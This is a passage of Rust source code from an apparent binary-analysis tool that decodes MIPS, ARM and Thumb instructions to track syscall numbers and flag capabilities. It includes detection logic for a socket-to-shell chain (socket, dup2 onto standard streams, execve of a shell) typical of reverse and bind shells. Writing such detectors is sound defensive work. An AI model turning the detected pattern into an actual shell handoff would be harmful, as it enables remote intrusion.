        let va = seg.vaddr.wrapping_add(4 * i as u64);
        let hit = match op {
            // lw / ld rt, N(gp)
            0x23 | 0x37 if rs == 28 => targets
                .mips_gp
                .is_some_and(|gp| wanted(mips_gp_slot(gp, w))),
            _ => mips_call_target(va, w).is_some_and(wanted),
        };
        if hit {
            let lo = (4 * i).saturating_sub(WINDOW_BEFORE);
            let hi = (4 * i).saturating_add(WINDOW_AFTER).min(code.len());
            match out.last_mut() {
                Some(last) if lo <= last.1 => last.1 = last.1.max(hi),
                _ => out.push((lo, hi)),
            }
        }
    }
    out
}

/// The target of a MIPS `jal` or `bal` (`bgezal zero`) at `va`; `None` for any other
/// instruction. Shared by the tracker and the window pass, so both see the same calls.
fn mips_call_target(va: u64, w: u32) -> Option<u64> {
    match w >> 26 {
        0x03 => Some((va.wrapping_add(4) & !0x0fff_ffff) | u64::from(w & 0x03ff_ffff) << 2),
        // REGIMM with rs = zero, rt = BGEZAL
        0x01 if (w >> 16) & 0x3ff == 0x11 => Some(
            va.wrapping_add(4)
                .wrapping_add((((w & 0xffff) as i16 as i64) << 2) as u64),
        ),
        _ => None,
    }
}

/// The GOT slot a MIPS `lw`/`ld rt, N(gp)` reads, for the global pointer `gp`.
fn mips_gp_slot(gp: u64, w: u32) -> u64 {
    gp.wrapping_add((w & 0xffff) as i16 as i64 as u64)
}

/// Capabilities and socket-to-shell data flow of a static binary's syscall stubs.
pub fn stub_scan(data: &[u8]) -> StubScan {
    let mut out = StubScan::default();
    let Some((arch, be)) = scan_arch(data) else {
        return out;
    };
    let be8 = crate::import_calls::arm_be8(data);
    let table = syscall_table(arch);
    let calls = std::cell::RefCell::new(Vec::new());
    let traps = collect_traps(data, arch, be, be && !be8, Some(&calls), None, |nr| {
        // every trap with a known number is kept (an unnamed one can still be where a
        // descriptor came from)
        Some(
            table
                .iter()
                .find(|(n, _)| *n == nr)
                .map_or("", |(_, sname)| *sname),
        )
    });
    for (t, sname) in &traps {
        if let Some((_, cap)) = SYSCALL_CAPS.iter().find(|(n, _)| n == sname) {
            out.caps
                .entry(*cap)
                .or_insert_with(|| format!("syscall {} ({sname}) at {:#x}", t.nr, t.at));
        }
        if *sname == "socket" {
            if let Some(what) = raw_socket(t) {
                out.caps.entry(Cap::RawCapture).or_insert_with(|| {
                    format!("syscall {} (socket) at {:#x} with {what}", t.nr, t.at)
                });
            }
        }
    }
    for (cap, e) in routine_calls(data, arch, be, be8, table, &calls.into_inner()) {
        out.caps.entry(cap).or_insert(e);
    }
    let loads = crate::exec_path::load_segments(data);
    let path = |k: u32| crate::exec_path::string_at(data, &loads, u64::from(k));
    let (handoff, program) = socket_to_shell(&traps, false, &path).unzip();
    (out.handoff, out.program) = (handoff, program.flatten());
    if out.handoff.is_none() {
        out.not_handed = stdio_from_elsewhere(&traps, false);
    }
    out
}

/// When no socket reaches the shell: the `dup2` calls onto standard input/output/error all
/// duplicate what some other system call returned (a pipe, a file, `/dev/null`), which the
/// tracker saw. `None` when any of them is of unknown origin.
fn stdio_from_elsewhere(traps: &[(Trap, &str)], calls: bool) -> Option<String> {
    let mut seen = Vec::new();
    for (t, n) in traps {
        if !matches!(*n, "dup2" | "dup3") || !matches!(t.args[1].k, Some(0..=2)) {
            continue;
        }
        let (src, sname) = traps.get(t.args[0].from?)?;
        if matches!(*sname, "socket" | "accept" | "accept4") {
            return None;
        }
        seen.push(if calls {
            format!(
                "call {n} at {:#x} of what call {sname} at {:#x} returned",
                t.at, src.at
            )
        } else {
            format!(
                "dup2 at {:#x} of what syscall {} at {:#x} returned",
                t.at, src.nr, src.at
            )
        });
    }
    (!seen.is_empty()).then(|| seen.join(", "))
}

/// Argument registers (first four) per architecture, as the scanners number them.
fn arg_regs(arch: Arch) -> [usize; 4] {
    match arch {
        Arch::Mips | Arch::MipsN32 | Arch::MipsN64 => [4, 5, 6, 7],
        Arch::Arm | Arch::Aarch64 => [0, 1, 2, 3],
        Arch::X86_64 => [7, 6, 2, 1],
        // i386 passes arguments on the stack (see `scan_x86`)
        Arch::I386 => [usize::MAX; 4],
    }
}

/// Library signatures by behaviour rather than by bytes: a C library that does not inline
/// its system calls (musl's cancellable calls go through `__syscall_cp_asm(cancel, nr,
/// ...)`, glibc/uClibc `syscall(nr, ...)`, a program's own wrapper) loads the number at the
/// call site and passes it in an argument register to one routine that moves it into the
/// number register and traps. Each directly called routine is decoded from its entry (128
/// bytes) with its argument registers seeded with markers; a trap whose number is marker `i`
/// makes it a syscall routine taking the number in argument `i`, and the constant in that
/// argument at each call site is a system call of the program.
fn routine_calls(
    data: &[u8],
    arch: Arch,
    be: bool,
    be8: bool,
    table: &[(u32, &'static str)],
    calls: &[Call],
) -> BTreeMap<Cap, String> {
    let mut out = BTreeMap::new();
    let args = arg_regs(arch);
    if calls.is_empty() {
        return out;
    }
    let segments = exec_segments(data);
    // i386 passes the arguments on the stack: the decoder seeds those (`stack_marks`)
    let seed: Vec<(usize, u32)> = args
        .iter()
        .enumerate()
        .filter(|(_, r)| **r != usize::MAX)
        .map(|(i, r)| (*r, ROUTINE_MARK + i as u32))
        .collect();
    let mut routine: BTreeMap<(u64, bool), Option<usize>> = BTreeMap::new();
    for c in calls {
        if routine.len() >= MAX_ROUTINES {
            break;
        }
        routine.entry((c.target, c.thumb)).or_insert_with(|| {
            let (off, size, vaddr) = segments
                .iter()
                .copied()
                .find(|(_, size, va)| (*va..va.saturating_add(*size)).contains(&c.target))?;
            let file_off = off.checked_add(c.target - vaddr)?;
            let start = usize::try_from(file_off).ok()?;
            let end = (off.saturating_add(size) as usize)
                .min(data.len())
                .min(start.saturating_add(ROUTINE_WINDOW));
            let code = data.get(start..end)?;
            let seg = Segment {
                data,
                file_off,
                vaddr: c.target,
                be,
                ins_be: be && !be8,
                seed: &seed,
                stack_marks: arch == Arch::I386,
                calls: None,
                imports: None,
                loads: &[],
            };
            let mut arg = None;
            let mut found = |nr: Option<u32>, _: u64, _: [Val; 3]| -> Option<usize> {
                if let Some(i) = nr.and_then(|v| v.checked_sub(ROUTINE_MARK)) {
                    if i < 4 && arg.is_none() {
                        arg = Some(i as usize);
                    }
                }
                None
            };
            match arch {
                Arch::Mips | Arch::MipsN32 | Arch::MipsN64 => scan_mips(code, &seg, &mut found),
                Arch::Arm if c.thumb => scan_thumb(code, &seg, &mut found),
                Arch::Arm => scan_arm(code, &seg, &mut found),
                Arch::Aarch64 => scan_aarch64(code, &seg, &mut found),
                Arch::X86_64 => scan_x86(code, &seg, X86_64_ABI, &mut found),
                Arch::I386 => scan_x86(code, &seg, I386_ABI, &mut found),
            }
            arg
        });
    }
    for c in calls {
        let Some(Some(i)) = routine.get(&(c.target, c.thumb)) else {
            continue;
        };
        let Some(nr) = c.args[*i] else { continue };
        let Some((_, sname)) = table.iter().find(|(n, _)| *n == nr) else {
            continue;
        };
        if let Some((_, cap)) = SYSCALL_CAPS.iter().find(|(n, _)| n == sname) {
            out.entry(*cap).or_insert_with(|| {
                format!(
                    "syscall {nr} ({sname}) through the syscall routine at {:#x} (number in argument {}), called at {:#x}",
                    c.target,
                    i + 1,
                    c.site
                )
            });
        }
    }
    out
}

/// The socket-to-shell chain in the traps, if the tracker followed one (see
/// [`StubScan::handoff`]).
/// With the flow, the program the exec call runs when its first argument is a string in
/// the file (`path` reads it), also named in the flow (`-> execve at 0x... running
/// "/bin/sh"`).
fn socket_to_shell(
    traps: &[(Trap, &str)],
    calls: bool,
    path: &dyn Fn(u32) -> Option<String>,
) -> Option<(String, Option<String>)> {
    let from = |t: &Trap, i: usize| t.args[0].from == Some(i);
    // import calls (dynamic executables) are named `call x`; any exec function ends the
    // chain there (`execl("/bin/sh", ...)`, `system(...)` after the dup2 calls)
    let c = if calls { "call " } else { "" };
    let exec = |n: &str| n == "execve" || (calls && EXEC_IMPORTS.contains(&n));
    for (si, (s, sname)) in traps.iter().enumerate() {
        if *sname != "socket" {
            continue;
        }
        // the descriptor handed on: the socket itself after connect, or what accept on it
        // returned
        let mut peers: Vec<(usize, String)> = Vec::new();
        for (i, (t, n)) in traps.iter().enumerate().skip(si + 1) {
            if t.at.saturating_sub(s.at) > HANDOFF_REGION {
                break;
            }
            match *n {
                "connect" if from(t, si) => {
                    peers.push((si, format!("{c}connect at {:#x}", t.at)));
                }
                "accept" | "accept4" if from(t, si) => {
                    peers.push((
                        i,
                        format!("{c}accept at {:#x} returns the connection", t.at),
                    ));
                }
                _ => {}
            }
        }
        for (fd, step) in peers {
            let mut onto = BTreeSet::new();
            let mut last_dup = 0;
            for (t, n) in traps.iter().skip(fd + 1) {
                if t.at.saturating_sub(s.at) > HANDOFF_REGION {
                    break;
                }
                if matches!(*n, "dup2" | "dup3") && from(t, fd) {
                    if let Some(k @ 0..=2) = t.args[1].k {
                        onto.insert(k);
                        last_dup = t.at;
                    }
                }
                if exec(n) && !onto.is_empty() && t.at > last_dup {
                    let onto: Vec<String> = onto.iter().map(|k| k.to_string()).collect();
                    let program = t.args[0].k.and_then(path);
                    let running = program
                        .as_ref()
                        .map(|p| format!(" running \"{p}\""))
                        .unwrap_or_default();
                    return Some((
                        format!(
                            "socket handed to shell: {c}socket at {:#x} -> {step} -> dup2 onto fd {} -> {c}{n} at {:#x}{running}",
                            s.at,
                            onto.join(", "),
                            t.at
                        ),
                        program,
                    ));
                }
            }
        }
    }
    None
}

struct Segment<'a> {
    data: &'a [u8],
    file_off: u64,
    vaddr: u64,
    /// Data (literal pools) big-endian.
    be: bool,
    /// Instructions big-endian: as `be`, except on ARM BE8 (little-endian instructions).
    ins_be: bool,
    /// Registers holding a constant when decoding starts (the routine pass seeds the
    /// argument registers with markers).
    seed: &'a [(usize, u32)],
    /// i386 routine pass: the stack arguments (`[esp+4]`, `[esp+8]`, ... at the entry) hold
    /// the markers instead of registers.
    stack_marks: bool,
    /// Direct calls seen, with the constants in their argument registers (first pass).
    calls: Option<&'a std::cell::RefCell<Vec<Call>>>,
    /// Dynamic executables: the PLT stubs and GOT slots of the imports; a call to one is
    /// reported like a trap, with [`IMPORT_MARK`] + the import's index as its number.
    imports: Option<&'a ImportTargets>,
    /// The file's `PT_LOAD` segments (vaddr, offset, size), for GOT words outside the code.
    loads: &'a [(u64, u64, u64)],
}

/// A direct call the tracker saw: target, call site, the constants in the first four
/// argument registers, and whether the target is Thumb code.
#[derive(Debug, Clone, Copy)]
struct Call {
    target: u64,
    site: u64,
    args: [Option<u32>; 4],
    thumb: bool,
}

/// Marker constants the routine pass seeds argument register `i` with (`ROUTINE_MARK + i`):
/// no syscall table has numbers this large.
const ROUTINE_MARK: u32 = 0x7fff_ff00;
/// Bytes of a called routine decoded to find a trap whose number is an argument.
const ROUTINE_WINDOW: usize = 128;
/// Most calls recorded and routines examined per file.
const MAX_CALLS: usize = 1 << 16;
const MAX_ROUTINES: usize = 4096;
/// Trap numbers standing for import calls (dynamic executables): `IMPORT_MARK + i` is a call
/// to import `i`, below the routine markers and above every system call number.
const IMPORT_MARK: u32 = 0x7ff0_0000;
const IMPORT_COUNT: u32 = 0x1_0000;

impl Segment<'_> {
    /// Records a direct call when one of its arguments is a constant that could be a
    /// system call number.
    fn call(&self, target: u64, site: u64, args: [Option<u32>; 4], thumb: bool) {
        let Some(calls) = self.calls else { return };
        if !args.iter().flatten().any(|v| (1..8192).contains(v)) {
            return;
        }
        let mut c = calls.borrow_mut();
        if c.len() < MAX_CALLS {
            c.push(Call {
                target,
                site,
                args,
                thumb,
            });
        }
    }
    /// The import a call to `target` reaches, as its trap number.
    fn import(&self, target: u64) -> Option<u32> {
        let (i, _) = self.imports?.at(target)?;
        (i < IMPORT_COUNT).then_some(IMPORT_MARK + i)
    }
    /// An instruction word.
    fn ins(&self, b: &[u8]) -> u32 {
        let a = [b[0], b[1], b[2], b[3]];
        if self.ins_be {
            u32::from_be_bytes(a)
        } else {
            u32::from_le_bytes(a)
        }
    }
    /// A data word.
    fn word(&self, b: &[u8]) -> u32 {
        let a = [b[0], b[1], b[2], b[3]];
        if self.be {
            u32::from_be_bytes(a)
        } else {
            u32::from_le_bytes(a)
        }
    }
    /// The 32-bit word at virtual address `va` of this segment, if inside the file.
    fn word_at(&self, va: u64) -> Option<u32> {
        let off = va.checked_sub(self.vaddr)?.checked_add(self.file_off)? as usize;
        self.data
            .get(off..off.checked_add(4)?)
            .map(|b| self.word(b))
    }
}

/// MIPS registers a call may overwrite: at, v0-v1, a0-a3, t0-t9, ra.
const MIPS_CALLER_SAVED: &[usize] = &[
    1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 24, 25, 31,
];

/// MIPS (o32, n32 and n64 alike: the trap, the number register and the moves are the same;
/// only the numbers differ): track v0 ($2) through `addiu/daddiu/ori rt, zero|rs, imm`,
/// `lui`, `move` (`or`/`addu`/`daddu rd, rs, zero`); a `syscall` reports v0 with a0-a2 and
/// leaves its result in v0. `negu rd, v0` (the error negation after `beqz a3`) keeps the
/// result's origin.
fn scan_mips(code: &[u8], seg: &Segment, found: &mut Found) {
    const SP: usize = 29;
    let mut reg = Regs::<32>::new();
    // trap results spilled to the stack frame (`sw/sd rt, off(sp)`) and reloaded
    // (`lw/ld rt, off(sp)`), as n32/n64 code does across calls; forgotten when sp moves
    let mut slots: Vec<(u32, Val)> = Vec::new();
    for &(r, v) in seg.seed {
        reg.set(r, Some(v));
    }
    reg.set(0, Some(0));
    // a jal's (jalr's) arguments are final after its delay slot: target, site, and the
    // import it calls when known
    let mut pending: Option<(u64, u64, Option<u32>)> = None;
    let gp = seg.imports.and_then(|t| t.mips_gp);
    for (i, c) in code.chunks_exact(4).enumerate() {
        let flush = pending.take();
        let w = seg.ins(c);
        let op = w >> 26;
        let rs = ((w >> 21) & 31) as usize;
        let rt = ((w >> 16) & 31) as usize;
        let rd = ((w >> 11) & 31) as usize;
        let imm = w & 0xffff;
        let sp_before = reg.val(SP);
        match op {
            // sw / sd to the stack frame
            0x2b | 0x3f if rs == SP => {
                slots.retain(|(o, _)| *o != imm);
                if reg.val(rt).from.is_some() && slots.len() < 32 {
                    slots.push((imm, reg.val(rt)));
                }
            }
            // lw / ld from the stack frame
            0x23 | 0x37 if rs == SP => match slots.iter().find(|(o, _)| *o == imm) {
                Some((_, v)) => {
                    let v = *v;
                    reg.set(rt, None);
                    if let Some(x) = reg.0.get_mut(rt) {
                        *x = v;
                    }
                }
                None => reg.set(rt, None),
            },
            // lw / ld t9, N(gp): an import's address from the global GOT (dynamic
            // executables; the call is the `jalr` that follows)
            0x23 | 0x37 if rs == 28 && gp.is_some() => {
                let slot = mips_gp_slot(gp.unwrap_or_default(), w);
                // a local GOT entry holds a page address (`lw a0, N(gp)`; `addiu a0,
                // a0, %lo(str)` makes it a string's): read it from the file
                reg.set(
                    rt,
                    seg.import(slot).or_else(|| {
                        let o = crate::exec_path::file_offset(seg.loads, slot)?;
                        seg.data.get(o..o + 4).map(|b| seg.word(b))
                    }),
                );
            }
            0 => {
                let funct = w & 0x3f;
                if funct == 0x0c {
                    let idx = found(
                        reg.k(2),
                        seg.vaddr.wrapping_add(4 * i as u64),
                        reg.args([4, 5, 6]),
                    );
                    reg.result(2, idx);
                    reg.set(7, None);
                } else if funct == 0x09 {
                    // jalr
                    match reg
                        .k(rs)
                        .filter(|v| (IMPORT_MARK..IMPORT_MARK + IMPORT_COUNT).contains(v))
                    {
                        Some(nr) if seg.imports.is_some() => {
                            pending = Some((0, seg.vaddr.wrapping_add(4 * i as u64), Some(nr)));
                        }
                        _ => {
                            reg.call(MIPS_CALLER_SAVED);
                            reg.set(rd, None);
                        }
                    }
                } else if funct == 0x25 || funct == 0x21 || funct == 0x2d {
                    // or / addu / daddu (`move` when one side is zero)
                    if rt == 0 {
                        reg.copy(rd, rs);
                    } else if rs == 0 {
                        reg.copy(rd, rt);
                    } else {
                        let v = match (reg.k(rs), reg.k(rt)) {
                            (Some(a), Some(b)) if funct == 0x25 => Some(a | b),
                            (Some(a), Some(b)) => Some(a.wrapping_add(b)),
                            _ => None,
                        };
                        reg.set(rd, v);
                    }
                } else if funct == 0x00 && (w >> 6) & 31 == 0 {
                    // sll rd, rt, 0: sign extension of a 32-bit result on n32/n64 (and nop)
                    reg.copy(rd, rt);
                } else if (funct == 0x23 || funct == 0x2f) && rs == 0 && reg.val(rt).from.is_some()
                {
                    // negu rd, rt: the negated error code of the same trap
                    reg.copy(rd, rt);
                } else if rd != 0 {
                    reg.set(rd, None);
                }
            }
            // jal, and bal (bgezal zero): what the linker makes of a `jalr t9` whose target
            // it knows (R_MIPS_JALR), as in static executables
            0x01 | 0x03 if mips_call_target(0, w).is_some() => {
                let va = seg.vaddr.wrapping_add(4 * i as u64);
                if let Some(target) = mips_call_target(va, w) {
                    pending = Some((target, va, seg.import(target)));
                }
            }
            // addiu, daddiu (n32/n64 `li`)
            0x09 | 0x19 => reg.set(
                rt,
                reg.k(rs).map(|v| v.wrapping_add(imm as i16 as i32 as u32)),
            ),
            0x0d => reg.set(rt, reg.k(rs).map(|v| v | imm)), // ori
            0x0f => reg.set(rt, Some(imm << 16)),            // lui
            // other immediate arithmetic and loads (lb..lwu, ldl/ldr, ll/lld/ld) write rt
            0x08 | 0x0a..=0x0c | 0x0e | 0x18 | 0x1a | 0x1b | 0x20..=0x27 | 0x30 | 0x34 | 0x37 => {
                reg.set(rt, None)
            }
            _ => {}
        }
        reg.set(0, Some(0));
        match flush {
            Some((_, site, Some(nr))) => {
                let idx = found(Some(nr), site, reg.args([4, 5, 6]));
                reg.clobber(MIPS_CALLER_SAVED);
                reg.result(2, idx);
            }
            Some((target, site, None)) => {
                seg.call(
                    target,
                    site,
                    [reg.k(4), reg.k(5), reg.k(6), reg.k(7)],
                    false,
                );
                reg.call(MIPS_CALLER_SAVED);
            }
            None => {}
        }
        if reg.val(SP) != sp_before || (op == 0x09 || op == 0x19) && rt == SP {
            slots.clear();
        }
    }
}

/// ARM registers a call may overwrite: r0-r3, r12, lr.
const ARM_CALLER_SAVED: &[usize] = &[0, 1, 2, 3, 12, 14];

/// ARM (A32): track r0-r12 through `mov rd, #imm` (rotated), `movw`/`movt`, `ldr rd, [pc,
/// #imm]` (literal pool), `mov rd, rm`, `add rd, rn, #imm` / `add rd, rn, rm`; `svc 0`
/// reports r7 (EABI) with r0-r2 and leaves its result in r0.
fn scan_arm(code: &[u8], seg: &Segment, found: &mut Found) {
    let mut reg = Regs::<16>::new();
    for &(r, v) in seg.seed {
        reg.set(r, Some(v));
    }
    for (i, c) in code.chunks_exact(4).enumerate() {
        let w = seg.ins(c);
        let va = seg.vaddr.wrapping_add(4 * i as u64);
        let offset = (((w & 0x00ff_ffff) << 8) as i32 >> 6) as i64 as u64;
        let args = [reg.k(0), reg.k(1), reg.k(2), reg.k(3)];
        if w >> 28 == 0xf && w & 0x0e00_0000 == 0x0a00_0000 {
            // blx imm: to Thumb code
            let h = u64::from((w >> 24) & 1) << 1;
            let target = va.wrapping_add(8).wrapping_add(offset) | h;
            if let Some(nr) = seg.import(target) {
                import_call(&mut reg, found, nr, va, ARM_CALLER_SAVED, 0);
                continue;
            }
            seg.call(target, va, args, true);
            reg.call(ARM_CALLER_SAVED);
            continue;
        }
        if w & 0x0f00_0000 == 0x0b00_0000 || w & 0x0fff_fff0 == 0x012f_ff30 {
            // bl (any condition) / blx rm
            if w & 0x0f00_0000 == 0x0b00_0000 {
                let target = va.wrapping_add(8).wrapping_add(offset);
                if let Some(nr) = seg.import(target) {
                    import_call(&mut reg, found, nr, va, ARM_CALLER_SAVED, 0);
                    continue;
                }
                seg.call(target, va, args, false);
            }
            reg.call(ARM_CALLER_SAVED);
            continue;
        }
        if w >> 28 != 0xe {
            // conditional instructions: forget the destination conservatively
            if (w >> 26) & 3 == 0 {
                reg.set(((w >> 12) & 15) as usize, None);
            }
            continue;
        }
        let rd = ((w >> 12) & 15) as usize;
        let rn = ((w >> 16) & 15) as usize;
        if w == 0xef00_0000 {
            let idx = found(reg.k(7), va, reg.args([0, 1, 2]));
            reg.result(0, idx);
        } else if w & 0x0fef_0000 == 0x03a0_0000 {
            // mov rd, #imm (rotated)
            let rot = ((w >> 8) & 15) * 2;
            reg.set(rd, Some((w & 0xff).rotate_right(rot)));
        } else if w & 0x0ff0_0000 == 0x0300_0000 {
            // movw
            reg.set(rd, Some(((w >> 4) & 0xf000) | (w & 0xfff)));
        } else if w & 0x0ff0_0000 == 0x0340_0000 {
            // movt
            let v = reg
                .k(rd)
                .map(|v| (v & 0xffff) | ((((w >> 4) & 0xf000) | (w & 0xfff)) << 16));
            reg.set(rd, v);
        } else if w & 0x0f7f_0000 == 0x051f_0000 {
            // ldr rd, [pc, #+-imm]
            let imm = (w & 0xfff) as u64;
            let base = va.wrapping_add(8);
            let addr = if w & (1 << 23) != 0 {
                base.wrapping_add(imm)
            } else {
                base.wrapping_sub(imm)
            };
            reg.set(rd, seg.word_at(addr));
        } else if w & 0x0fef_0ff0 == 0x01a0_0000 {
            // mov rd, rm
            reg.copy(rd, (w & 15) as usize);
        } else if w & 0x0e00_0fff == 0x0200_0000 && matches!((w >> 21) & 15, 1 | 2 | 4 | 12) {
            // eor/sub/add/orr(s) rd, rn, #0: a copy (`subs r3, r0, #0` tests a result)
            reg.copy(rd, rn);
        } else if w & 0x0fe0_0000 == 0x0280_0000 {
            // add rd, rn, #imm (`adr` when rn is pc)
            let rot = ((w >> 8) & 15) * 2;
            let base = if rn == 15 {
                Some(va.wrapping_add(8) as u32)
            } else {
                reg.k(rn)
            };
            reg.set(
                rd,
                base.map(|v| v.wrapping_add((w & 0xff).rotate_right(rot))),
            );
        } else if w & 0x0fe0_0ff0 == 0x0080_0000 {
            // add rd, rn, rm (`add r0, pc, r0` of position-independent code: pc reads as
            // the instruction's address + 8)
            let k = |r: usize| {
                if r == 15 {
                    Some(va.wrapping_add(8) as u32)
                } else {
                    reg.k(r)
                }
            };
            let v = match (k(rn), k((w & 15) as usize)) {
                (Some(a), Some(b)) => Some(a.wrapping_add(b)),
                _ => None,
            };
            reg.set(rd, v);
        } else if (w >> 26) & 3 == 0 || ((w >> 26) & 3 == 1 && w & (1 << 20) != 0) {
            // other data processing or a load: destination unknown
            reg.set(rd, None);
        } else if w & 0x0e10_0000 == 0x0810_0000 {
            // ldm: registers in the list become unknown
            for r in 0..16 {
                if w & (1 << r) != 0 {
                    reg.set(r, None);
                }
            }
        }
    }
}

/// Thumb's modified immediate (`ThumbExpandImm` in the ARM ARM) of a 12-bit `i:imm3:imm8`.
fn thumb_expand_imm(imm12: u32) -> u32 {
    let imm8 = imm12 & 0xff;
    if imm12 >> 10 == 0 {
        match (imm12 >> 8) & 3 {
            0 => imm8,
            1 => imm8 << 16 | imm8,
            2 => imm8 << 24 | imm8 << 8,
            _ => imm8.wrapping_mul(0x0101_0101),
        }
    } else {
        (0x80 | (imm12 & 0x7f)).rotate_right(imm12 >> 7)
    }
}

/// Thumb / Thumb-2 (EABI, as uClibc and musl ARM builds and `-mthumb` programs are
/// compiled): track r0-r12 through the 16-bit `movs rd, #imm8`, `adds/subs rd, #imm8`,
/// `adds/subs rd, rn, #imm3`, `lsls rd, rm, #imm5` (`movs rd, rm` when 0), `mov rd, rm`,
/// `ldr rd, [pc, #imm]` and the 32-bit `movw`, `movt`, `mov.w rd, #const`, `add.w`/`addw`,
/// `ldr.w rd, [pc, #+-imm]`; `svc 0` (`df 00`) reports r7 with r0-r2. Any other
/// instruction forgets the registers it may write (a forgotten number only loses a stub,
/// never invents one).
fn scan_thumb(code: &[u8], seg: &Segment, found: &mut Found) {
    let mut reg = Regs::<16>::new();
    let half = |i: usize| -> Option<u32> {
        let b = code.get(i..i + 2)?;
        Some(u32::from(if seg.ins_be {
            u16::from_be_bytes([b[0], b[1]])
        } else {
            u16::from_le_bytes([b[0], b[1]])
        }))
    };
    let forget_list = |reg: &mut Regs<16>, list: u32, n: usize| {
        for r in 0..n {
            if list & (1 << r) != 0 {
                reg.set(r, None);
            }
        }
    };
    for &(r, v) in seg.seed {
        reg.set(r, Some(v));
    }
    let mut i = 0;
    while let Some(hw) = half(i) {
        let va = seg.vaddr.wrapping_add(i as u64);
        if hw >> 11 >= 0x1d {
            // 32-bit Thumb-2
            let Some(hw2) = half(i + 2) else { break };
            i += 4;
            let rd = ((hw2 >> 8) & 15) as usize;
            let imm12 = ((hw >> 10) & 1) << 11 | ((hw2 >> 12) & 7) << 8 | (hw2 & 0xff);
            if hw >> 11 == 0x1e && hw2 & 0xc000 == 0xc000 {
                // bl / blx: S:I1:I2:imm10:imm11:0, I = !(J ^ S)
                let s = (hw >> 10) & 1;
                let i1 = !((hw2 >> 13) & 1 ^ s) & 1;
                let i2 = !((hw2 >> 11) & 1 ^ s) & 1;
                let imm = s << 24 | i1 << 23 | i2 << 22 | (hw & 0x3ff) << 12 | (hw2 & 0x7ff) << 1;
                let offset = ((imm << 7) as i32 >> 7) as i64 as u64;
                let args = [reg.k(0), reg.k(1), reg.k(2), reg.k(3)];
                let (target, thumb) = if hw2 & 0x1000 != 0 {
                    (va.wrapping_add(4).wrapping_add(offset), true)
                } else {
                    let base = va.wrapping_add(4) & !3;
                    (base.wrapping_add(offset) & !3, false)
                };
                if let Some(nr) = seg.import(target) {
                    import_call(&mut reg, found, nr, va, ARM_CALLER_SAVED, 0);
                } else {
                    seg.call(target, va, args, thumb);
                    reg.call(ARM_CALLER_SAVED);
                }
            } else if hw & 0xfbf0 == 0xf240 && hw2 & 0x8000 == 0 {
                // movw
                reg.set(rd, Some((hw & 15) << 12 | imm12));
            } else if hw & 0xfbf0 == 0xf2c0 && hw2 & 0x8000 == 0 {
                // movt
                let top = (hw & 15) << 12 | imm12;
                reg.set(rd, reg.k(rd).map(|v| (v & 0xffff) | top << 16));
            } else if hw & 0xfbef == 0xf04f && hw2 & 0x8000 == 0 {
                // mov.w rd, #const
                reg.set(rd, Some(thumb_expand_imm(imm12)));
            } else if hw & 0xfbe0 == 0xf100 && hw2 & 0x8000 == 0 {
                // add.w rd, rn, #const
                let v = reg
                    .k((hw & 15) as usize)
                    .map(|v| v.wrapping_add(thumb_expand_imm(imm12)));
                reg.set(rd, v);
            } else if hw & 0xfbf0 == 0xf200 && hw2 & 0x8000 == 0 {
                // addw rd, rn, #imm12
                reg.set(rd, reg.k((hw & 15) as usize).map(|v| v.wrapping_add(imm12)));
            } else if hw & 0xff7f == 0xf85f {
                // ldr.w rt, [pc, #+-imm12]
                let base = va.wrapping_add(4) & !3;
                let imm = u64::from(hw2 & 0xfff);
                let addr = if hw & 0x80 != 0 {
                    base.wrapping_add(imm)
                } else {
                    base.wrapping_sub(imm)
                };
                reg.set((hw2 >> 12) as usize, seg.word_at(addr));
            } else if hw & 0xffd0 == 0xe890 {
                // ldm.w / pop.w: the listed registers
                forget_list(&mut reg, hw2, 16);
            } else {
                reg.set(rd, None);
                reg.set((hw2 >> 12) as usize, None);
            }
            continue;
        }
        i += 2;
        let lo = (hw & 7) as usize;
        let hi = ((hw >> 8) & 7) as usize;
        let rm = ((hw >> 3) & 7) as usize;
        let imm8 = hw & 0xff;
        match hw >> 11 {
            _ if hw == 0xdf00 => {
                let idx = found(reg.k(7), va, reg.args([0, 1, 2]));
                reg.result(0, idx);
            }
            // movs rd, rm (lsls #0)
            0x00 if (hw >> 6) & 31 == 0 => reg.copy(lo, rm),
            // lsls rd, rm, #imm5
            0x00 => reg.set(lo, reg.k(rm).map(|v| v << ((hw >> 6) & 31))),
            // adds/subs rd, rn, rm or #imm3 (`subs rd, rn, #0` copies, as compilers test
            // a result)
            0x03 => {
                let (rn, third) = (rm, (hw >> 6) & 7);
                let op = (hw >> 9) & 3;
                if op >= 2 && third == 0 {
                    reg.copy(lo, rn);
                } else {
                    let v = match op {
                        0 => reg
                            .k(rn)
                            .zip(reg.k(third as usize))
                            .map(|(a, b)| a.wrapping_add(b)),
                        1 => reg
                            .k(rn)
                            .zip(reg.k(third as usize))
                            .map(|(a, b)| a.wrapping_sub(b)),
                        2 => reg.k(rn).map(|v| v.wrapping_add(third)),
                        _ => reg.k(rn).map(|v| v.wrapping_sub(third)),
                    };
                    reg.set(lo, v);
                }
            }
            0x04 => reg.set(hi, Some(imm8)), // movs rd, #imm8
            0x05 => {}                       // cmp rn, #imm8
            0x06 => reg.set(hi, reg.k(hi).map(|v| v.wrapping_add(imm8))), // adds rd, #imm8
            0x07 => reg.set(hi, reg.k(hi).map(|v| v.wrapping_sub(imm8))), // subs rd, #imm8
            0x08 if hw & 0xff00 == 0x4600 => {
                // mov rd, rm (high registers too)
                reg.copy(((hw >> 4) & 8) as usize | lo, ((hw >> 3) & 15) as usize);
            }
            0x08 if hw & 0xff80 == 0x4780 => reg.call(ARM_CALLER_SAVED), // blx rm
            // tst, cmp, cmn (register): nothing written
            0x08 if hw & 0xfc00 == 0x4000 && matches!((hw >> 6) & 15, 8 | 10 | 11) => {}
            0x08 if hw & 0xfc00 == 0x4400 => {
                // add/cmp/bx with high registers
                if hw & 0xff00 == 0x4400 {
                    reg.set(((hw >> 4) & 8) as usize | lo, None);
                }
            }
            // ldr rd, [pc, #imm8 * 4]
            0x09 => reg.set(
                hi,
                seg.word_at((va.wrapping_add(4) & !3).wrapping_add(u64::from(imm8) * 4)),
            ),
            // stores write nothing: str/strh/strb with a register offset (0x50-0x55),
            // with an immediate (0x60, 0x70, 0x80) and sp-relative (0x90)
            0x0a if hw & 0x0600 != 0x0600 => {}
            0x0c | 0x0e | 0x10 | 0x12 => {}
            // loads (ldrsb, ldr, ldrh, ldrb, ldrsh; immediate forms)
            0x0a..=0x0b | 0x0d | 0x0f | 0x11 => reg.set(lo, None),
            0x13..=0x15 => reg.set(hi, None), // ldr sp-relative, adr, add rd, sp
